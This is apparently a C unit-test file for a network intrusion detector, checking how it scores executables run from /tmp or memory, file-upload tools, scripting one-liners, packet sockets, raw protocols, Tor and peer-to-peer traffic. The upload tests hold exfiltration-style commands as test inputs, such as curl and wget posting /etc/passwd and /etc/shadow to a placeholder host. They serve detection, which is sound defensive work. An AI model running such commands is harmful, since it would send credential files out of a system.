/* SPDX-License-Identifier: Apache-2.0 */
/* What is told by program or protocol alone: execution, rawsock, tor, p2p. */
#include "detect_rig_flows.h"

/* `args` by words, joined with NULs. */
static struct text *args(struct drig *g, const char *words)
{
	char joined[512];
	size_t n = strlen(words);

	memcpy(joined, words, n);
	for (size_t i = 0; i < n; i++)
		if (joined[i] == ' ')
			joined[i] = 0;
	return intern_get(g->texts, (struct str){ joined, n });
}

static int ran(const char *exe, const char *words, enum exe_state state, const char *to,
	       enum evidence_id id)
{
	struct drig *g = drig_new(DETECT_HOST);
	struct proc p = { .refs = 100,
			  .exe = intern_get(g->texts, str_of(exe)),
			  .exe_state = state,
			  .args = args(g, words) };
	struct flow *f = drig_open(g, to, 443, IPPROTO_TCP, APP_TLS);
	int db;

	f->proc = &p;
	drig_moves(g, f, TO_SERVER, 100, 3);
	drig_moves(g, f, TO_SERVER, 100, 3);
	db = drig_db(g, f, id);
	drig_free(g);
	return db;
}

static void test_place(void **state)
{
	assert_int_equal(ran("/tmp/.x", "/tmp/.x", EXE_FILE, FAR, E_EXECUTION), 10);
	assert_int_equal(ran("/dev/shm/a/b", "b", EXE_FILE, FAR, E_EXECUTION), 10);
	assert_int_equal(ran("memfd:x", "x", EXE_MEMFD, FAR, E_EXECUTION), 10);
	assert_int_equal(ran("/usr/bin/agent", "agent", EXE_DELETED, FAR, E_EXECUTION), 5);
	assert_int_equal(ran("/tmp/.x", "/tmp/.x", EXE_FILE, NEAR, E_EXECUTION), 0);
	assert_int_equal(ran("/usr/bin/agent", "agent", EXE_FILE, FAR, E_EXECUTION), 0);
	assert_int_equal(ran("/tmpfiles/agent", "agent", EXE_FILE, FAR, E_EXECUTION), 0);
}

static bool uploads(const char *exe, const char *words)
{
	return ran(exe, words, EXE_FILE, FAR, E_TOOL_UPLOAD) > 0;
}

static void test_uploads(void **state)
{
	assert_true(uploads("/usr/bin/curl", "curl -T /etc/passwd https://x.example/"));
	assert_true(uploads("/usr/bin/curl", "curl -sT/etc/passwd https://x.example/"));
	assert_true(uploads("/usr/bin/curl", "curl --upload-file a https://x.example/"));
	assert_true(uploads("/usr/bin/curl", "curl -F file=@/etc/passwd https://x.example/"));
	assert_true(uploads("/usr/bin/curl", "curl --data-binary @a.tar https://x.example/"));
	assert_true(uploads("/usr/bin/curl", "curl -d @a https://x.example/"));
	assert_true(uploads("/usr/bin/wget", "wget --post-file=/etc/shadow https://x.example/"));
	assert_true(uploads("/usr/bin/scp", "scp -r secret u@x.example:/tmp"));
	assert_true(uploads("/usr/bin/rsync", "rsync -a /srv/data x.example:backup"));
	assert_true(uploads("/usr/bin/rclone", "rclone copy /srv remote:bucket"));

	assert_false(uploads("/usr/bin/curl", "curl -fsSL https://x.example/a@b"));
	assert_false(uploads("/usr/bin/curl", "curl -o T.tar https://x.example/"));
	assert_false(uploads("/usr/bin/curl", "curl -oT https://x.example/"));
	assert_false(uploads("/usr/bin/curl", "curl -d user=a@b.example https://x.example/"));
	assert_false(uploads("/usr/bin/curl", "curl -F name=a https://x.example/"));
	assert_false(uploads("/usr/bin/wget", "wget https://x.example/"));
	assert_false(uploads("/usr/bin/scp", "scp u@x.example:/tmp/a ."));
	assert_false(uploads("/usr/bin/rsync", "rsync -a x.example:backup /srv/data"));
	assert_false(uploads("/usr/bin/agent", "agent -T /etc/passwd"));
}

/* The connection of scp is ssh's. */
static void test_child(void **state)
{
	struct drig *g = drig_new(DETECT_HOST);
	struct proc parent = { .refs = 100,
			       .exe = intern_get(g->texts, STR("/usr/bin/scp")),
			       .args = args(g, "scp secret u@x.example:") };
	struct proc p = { .refs = 100,
			  .exe = intern_get(g->texts, STR("/usr/bin/ssh")),
			  .args = args(g, "ssh -x u@x.example scp -t"),
			  .parent = &parent };
	struct flow *f = drig_open(g, FAR, 22, IPPROTO_TCP, APP_SSH);

	f->proc = &p;
	drig_moves(g, f, TO_SERVER, 100, 0);
	assert_int_equal(drig_db(g, f, E_TOOL_UPLOAD), 10);
	drig_free(g);
}

static bool one_liner(const char *exe, const char *words)
{
	return ran(exe, words, EXE_FILE, FAR, E_ONE_LINER) > 0;
}

static void test_one_liners(void **state)
{
	assert_true(one_liner("/usr/bin/python3.11", "python3 -c import"));
	assert_true(one_liner("/usr/bin/perl", "perl -e use"));
	assert_true(one_liner("/usr/bin/php8.2", "php -r x"));
	assert_true(one_liner("/usr/bin/ruby3.1", "ruby -e x"));
	assert_true(one_liner("/usr/bin/node", "node -e x"));
	assert_false(one_liner("/usr/bin/python3.11", "python3 script.py -c x"));
	assert_false(one_liner("/usr/bin/python3.11", "python3 -m http.client"));
	assert_false(one_liner("/usr/bin/perl", "perl script.pl -e"));
	assert_false(one_liner("/usr/bin/agent", "agent -c x"));
}

static int packet_socket(const char *exe, enum exe_state state)
{
	struct drig *g = drig_new(DETECT_HOST);
	struct proc p = { .refs = 100,
			  .exe = intern_get(g->texts, str_of(exe)),
			  .exe_state = state,
			  .opened_packet_socket = true };
	struct pair *pair;
	int db = 0;

	drig_tells(g, (struct record){ .type = RECORD_PACKET_SOCKET, .proc = &p });
	pair = list_empty(&g->d->pair_lru) ? NULL
					   : container_of(g->d->pair_lru.next, struct pair, lru);
	for (unsigned i = 0; pair && pair->dossier && i < pair->dossier->n; i++)
		if (pair->dossier->evidence[i]->id == E_PACKET_SOCKET)
			db = pair->dossier->evidence[i]->db;
	drig_free(g);
	return db;
}

static void test_packet_sockets(void **state)
{
	assert_int_equal(packet_socket("/tmp/.x", EXE_FILE), evidence_rows[E_PACKET_SOCKET].most);
	assert_int_equal(packet_socket("/usr/bin/python3", EXE_FILE),
			 evidence_rows[E_PACKET_SOCKET].most / 2);
	assert_int_equal(packet_socket("/usr/bin/tcpdump", EXE_FILE), 0);
	assert_int_equal(packet_socket("/sbin/dhclient", EXE_FILE), 0);
	assert_int_equal(packet_socket("/usr/sbin/NetworkManager", EXE_FILE), 0);
}

static int spoke(uint8_t proto, const char *to)
{
	struct drig *g = drig_new(DETECT_FILE);
	struct flow *f = drig_open(g, to, 0, proto, APP_UNDECIDED);
	int db;

	drig_moves(g, f, TO_SERVER, 100, 0);
	drig_moves(g, f, TO_SERVER, 100, 3);
	db = drig_db(g, f, E_RAW_PROTOCOL);
	drig_free(g);
	return db;
}

static void test_protocols(void **state)
{
	assert_int_equal(spoke(IPPROTO_GRE, FAR), 3);
	assert_int_equal(spoke(253, FAR), evidence_rows[E_RAW_PROTOCOL].most);
	assert_int_equal(spoke(253, NEAR), 0);
	assert_int_equal(spoke(IPPROTO_ICMP, FAR), 0);
	assert_int_equal(spoke(IPPROTO_SCTP, FAR), 0);
}

static void test_tor(void **state)
{
	struct drig *g = drig_new(DETECT_FILE);
	struct flow *f = drig_open(g, FAR, 9001, IPPROTO_TCP, APP_TOR);

	drig_call(g, f, "www.4hn2kqfvd6oxe.com", NAME_SNI);
	drig_moves(g, f, TO_SERVER, 300, 0);
	assert_int_equal(drig_db(g, f, E_TOR), evidence_rows[E_TOR].most);
	assert_int_equal(drig_db(g, f, E_MADE_UP_NAME), evidence_rows[E_MADE_UP_NAME].most);
	drig_ends(g, f);
	drig_finish(g);
	assert_int_equal(g->worst, SEVERITY_MEDIUM);
	assert_int_equal(g->class, CLASS_POLICY);
	drig_free(g);
}

static void test_p2p(void **state)
{
	struct drig *g = drig_new(DETECT_FILE);
	struct flow *f = NULL;
	char to[32];

	for (int i = 0; i < 200; i++) {
		snprintf(to, sizeof(to), "203.0.114.%d", i + 1);
		f = drig_open(g, to, (uint16_t)(20000 + i), IPPROTO_UDP,
			      i % 4 ? APP_BITTORRENT : APP_UNKNOWN);
		drig_moves(g, f, TO_SERVER, 100, 0.3);
		drig_moves(g, f, TO_CLIENT, 300, 0.1);
		drig_ends(g, f);
	}
	assert_int_equal(drig_db(g, f, E_P2P), evidence_rows[E_P2P].most);
	drig_finish(g);
	assert_int_equal(g->told, 0); /* for the log */
	drig_free(g);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_place),
		cmocka_unit_test(test_uploads),
		cmocka_unit_test(test_child),
		cmocka_unit_test(test_one_liners),
		cmocka_unit_test(test_packet_sockets),
		cmocka_unit_test(test_protocols),
		cmocka_unit_test(test_tor),
		cmocka_unit_test(test_p2p),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
